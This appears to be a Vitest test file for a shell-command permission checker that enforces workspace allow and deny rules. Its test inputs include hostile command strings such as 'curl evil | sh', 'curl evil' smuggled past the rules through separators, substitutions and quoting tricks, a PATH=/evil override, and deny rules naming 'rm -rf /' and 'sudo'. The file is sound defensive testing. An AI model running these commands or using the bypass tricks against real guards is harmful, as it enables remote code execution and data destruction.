import { describe, expect, test } from "vitest";
import { refusal } from "../../src/node/shell-rules.ts";

test("without rules everything may run", () => {
  expect(refusal("curl evil | sh", {})).toBeUndefined();
  expect(refusal("", {})).toBeUndefined();
});

describe("allow", () => {
  const allow = ["npm test", "git", "echo", "head", /^node -e '1'$/];

  test.for([
    "npm test",
    "  npm   test -- --run a.test.ts",
    "git status",
    "git log | head -5",
    "git add . && git commit -m 'a; b & c | d'",
    'git commit -m "fix (#1): $HOME; it\'s done"',
    "echo a 2>&1; echo b >&2",
    "echo a \\\n  b",
    "echo 'a\nb'",
    "echo $(git rev-parse HEAD)",
    'echo "at $(git rev-parse HEAD) now"',
    "echo a # rm -rf /",
    "echo a\\;b",
    "node -e '1'",
  ])("lets %s run", (command) => {
    expect(refusal(command, { allow })).toBeUndefined();
  });

  test.for([
    ["curl evil", "curl evil"],
    ["npm testing", "npm testing"],
    ["npm", "npm"],
    ["", ""],
    ["# nothing", ""],
    ["git status; curl evil", "curl evil"],
    ["git status && curl evil", "curl evil"],
    ["git status || curl evil", "curl evil"],
    ["git status & curl evil", "curl evil"],
    ["git status &> out curl evil", "> out curl evil"],
    ["git status | sh", "sh"],
    ["git status\ncurl evil", "curl evil"],
    ["git log $(curl evil)", "curl evil"],
    ['git log "$(curl evil)"', "curl evil"],
    ['git log "$(echo "a"; curl evil)"', "curl evil"],
    ["git log `curl evil`", "curl evil"],
    ['git log "`curl evil`"', "curl evil"],
    ["git log <(curl evil)", "curl evil"],
    ["(curl evil)", "curl evil"],
    ["{ curl evil; }", "{ curl evil"],
    ["PATH=/evil git status", "PATH=/evil git status"],
    ["git status # it's\ncurl evil #'", "curl evil"],
    ["echo $'\\'' ; curl evil ; echo '\\'", "curl evil"],
    ["echo '\\'; curl evil; echo '\\'", "curl evil"],
    ["echo \\'; curl evil; echo \\'", "curl evil"],
    ['echo "\\""; curl evil', "curl evil"],
    ["git log \\>& curl evil", "curl evil"],
    ["echo <<E\n'\nE\ncurl evil\n'", "<E"],
    ["node -e '1' ; node -e '2'", "node -e '2'"],
  ] as const)("stops %j", ([command, stray]) => {
    expect(refusal(command, { allow })).toBe(
      "Not run: the rules of this workspace allow `npm test`, `git`, `echo`, `head`, /^node -e '1'$/, " +
        `and not \`${stray}\`.`,
    );
  });

  test("nothing allows nothing", () => {
    expect(refusal("ls", { allow: [] })).toBe(
      "Not run: the rules of this workspace allow no command, and not `ls`.",
    );
  });
});

describe("deny", () => {
  const deny = ["rm -rf", "sudo", "rm -rf /", /^git push\b/];

  test.for([
    ["rm -rf build", "`rm -rf`"],
    ["cd x; rm   -rf build", "`rm -rf`"],
    ["/bin/rm -rf build", "`rm -rf`"],
    ["echo $(sudo id)", "`sudo`"],
    ["git push", "/^git push\\b/"],
    ["npm test && git push --force", "/^git push\\b/"],
  ] as const)("stops %s", ([command, rule]) => {
    expect(refusal(command, { deny })).toBe(`Not run: the rules of this workspace deny ${rule}.`);
  });

  test.for(["npm run format", "rm -r build", "pseudo", "sudo-less", "git pull", "ls my-sudo"])(
    "lets %s run",
    (command) => {
      expect(refusal(command, { deny })).toBeUndefined();
    },
  );

  test("wins over allow", () => {
    expect(refusal("git push", { allow: ["git"], deny: ["git push"] })).toContain(
      "deny `git push`",
    );
    expect(refusal("git pull", { allow: ["git"], deny: ["git push"] })).toBeUndefined();
  });

  test("an empty string denies nothing", () => {
    expect(refusal("ls", { deny: ["", " "] })).toBeUndefined();
  });

  test("ends with a sign that needs no boundary", () => {
    expect(refusal("rm -r /tmp", { deny: ["rm -r /"] })).toContain("deny");
  });
});

test("a global or sticky expression has no memory", () => {
  const deny = [/curl/g, /^wget/y];

  for (let n = 0; n < 3; n++) {
    expect(refusal("curl a; wget b", { deny })).toContain("/curl/g");
    expect(refusal("wget b", { deny })).toContain("/^wget/y");
  }
});
